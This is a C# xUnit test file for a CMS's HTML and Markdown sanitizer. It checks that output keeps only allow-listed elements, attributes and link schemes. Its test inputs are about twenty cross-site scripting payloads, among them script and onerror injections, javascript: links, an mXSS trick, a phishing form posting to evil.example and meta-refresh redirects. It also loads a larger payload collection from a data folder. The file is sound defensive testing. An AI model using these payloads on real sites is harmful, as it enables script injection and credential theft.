using System.Text.Json;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using CoopHub.Cms.PropertyEditors;
using CoopHub.Tests.Kit;
using Xunit;

namespace CoopHub.Tests.Cms.PropertyEditors;

/// <summary>Whatever is typed, what is shown neither acts nor loads nor looks like the site's own controls.</summary>
public sealed class HarmlessTests
{
    private static readonly SafeHtml Html = new();
    private static readonly SafeMarkdown Markdown = new(Html);

    private static readonly HashSet<string> Elements =
    [
        "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd", "blockquote", "pre", "code", "em", "strong",
        "del", "ins", "sub", "sup", "a", "table", "thead", "tbody", "tr", "th", "td", "caption", "abbr", "html", "head", "body",
    ];

    private static readonly HashSet<string> Attributes = ["href", "rel", "title", "id", "colspan", "rowspan", "scope", "start"];

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"java\nscript:alert(1)\">x</a>")]
    [InlineData("<a href=\"&#1;javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>")]
    [InlineData("<p style=\"position:fixed;inset:0\" class=\"kern-dialog\" id=\"main\">x</p>")]
    [InlineData("<form action=\"https://evil.example\"><input name=password><button>Anmelden</button></form>")]
    [InlineData("<iframe src=\"//evil.example\"></iframe><object data=x></object><embed src=x>")]
    [InlineData("<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example\"><link rel=stylesheet href=x>")]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](vbscript:alert(1))")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("![x](https://evil.example/pixel.gif)")]
    [InlineData("# x {onclick=alert(1) #main .kern-dialog}")]
    [InlineData("[x]: javascript:alert(1)\n\n[x]")]
    [InlineData("| a |\n|---|\n| <img src=x onerror=alert(1)> |")]
    [InlineData("## </h2><script>alert(1)</script>")]
    public void Known_attacks_come_to_nothing(string typed) => AssertHarmless(typed);

    [SharedFact("data/xss")]
    public void The_collected_attacks_come_to_nothing()
    {
        var lines = Directory.GetFiles(SharedData.Find("data/xss")!, "*.jsonl").SelectMany(File.ReadLines).ToList();
        Assert.True(lines.Count > 1000, $"The folder holds {lines.Count} attacks only.");
        foreach (var line in lines)
        {
            using var attack = JsonDocument.Parse(line);
            AssertHarmless(attack.RootElement.GetProperty("payload").GetString()!, attack.RootElement.GetProperty("id").GetString());
        }
    }

    private static void AssertHarmless(string typed, string? id = null)
    {
        foreach (var html in new[] { Html.Sanitize(typed), Markdown.ToHtml(typed) })
        {
            using var document = new HtmlParser().ParseDocument(html);
            // The payload itself is not printed: it holds control characters and addresses.
            Assert.True(document.All.All(IsHarmless), $"{id}: something got through.");
        }
    }

    private static bool IsHarmless(IElement element) =>
        Elements.Contains(element.LocalName)
        && element.Attributes.All(attribute => Attributes.Contains(attribute.Name))
        && element.GetAttribute("id")?.StartsWith(SafeMarkdown.HeadingPrefix, StringComparison.Ordinal) != false
        && (element.GetAttribute("href") is not { } href || IsHarmlessAddress(href));

    private static bool IsHarmlessAddress(string href)
    {
        var colon = href.IndexOf(':', StringComparison.Ordinal);
        var end = href.IndexOfAny(['/', '?', '#']);
        return colon < 0 || (end >= 0 && end < colon) || href[..colon].ToLowerInvariant() is "http" or "https" or "mailto" or "tel";
    }
}
